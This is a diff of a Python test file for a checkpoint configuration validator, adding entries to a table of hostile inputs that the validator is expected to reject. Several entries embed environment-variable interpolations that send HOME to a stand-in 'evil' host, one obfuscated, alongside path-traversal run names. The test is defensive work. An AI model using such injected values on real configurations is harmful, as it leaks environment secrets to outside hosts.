@@ -236,7 +236,19 @@ HOSTILE: dict[str, tuple[str, Any, str]] = {
     "a folder": ("name", "../../elsewhere", "is no name of a run"),
     "an absolute folder": ("name", "/tmp/elsewhere", "is no name of a run"),
     "no name": ("name", ["x"], "is no name of a run"),
-    "a secret": ("data.val.init_args.root", "https://evil/${oc.env:HOME}", "is not taken from a checkpoint"),
+    "a secret": (
+        "data.val.init_args.root",
+        "https://evil/${oc.env:HOME}",
+        "that also names the address 'https://evil/",
+    ),
+    "a secret, hidden": ("data.val.init_args.root", "${oc.env:NONE,https:}//evil/${oc.env:HOME}", "names the address"),
+    "a secret elsewhere": (
+        "data.val.init_args",
+        {"path": "${oc.env:HOME}", "root": "https://evil"},
+        "data.val.init_args.path: '\\${oc.env:HOME}' is not taken",
+    ),
+    "a variable that is not set": ("data.val.init_args.root", "${oc.env:NONE}", "'NONE' is not set"),
+    "a name of a variable": ("name", "${oc.env:NONE,../x}", "is no name of a run"),
     "chained addresses": ("data.val.init_args.path", "filecache::https://evil/x", "is not taken from a checkpoint"),
     "an unknown option": ("model.evil", 1, "this version has no option 'evil'"),
     "an unknown option of a source": ("data.val.init_args.evil", 1, "has no option 'evil'"),
@@ -304,8 +316,9 @@ def test_folders_and_rights_of_a_source_are_given_here(content: dict[str, Any], 
         "init_args": {"path": "val", "root": "/then", "cache": "/elsewhere", "storage_options": {"key": "x"}},
     }
     changed = change(change(content, "data.val", packed), "data.root", "/then")
-    config, missed = stored_config(changed, "validate", STORED, (), ["tests"], "here")
-    assert config["data"]["val"]["init_args"] == {"path": "val", "root": "."}
+    packed["init_args"]["path"] = "${oc.env:HOME}/val"
+    config, missed = stored_config(change(changed, "data.val", packed), "validate", STORED, (), ["tests"], "here")
+    assert config["data"]["val"]["init_args"] == {"path": "${oc.env:HOME}/val", "root": "."}
     assert config["data"]["root"] == "/then"
     assert missed == ["data.val.init_args.cache", "data.val.init_args.storage_options"]
 
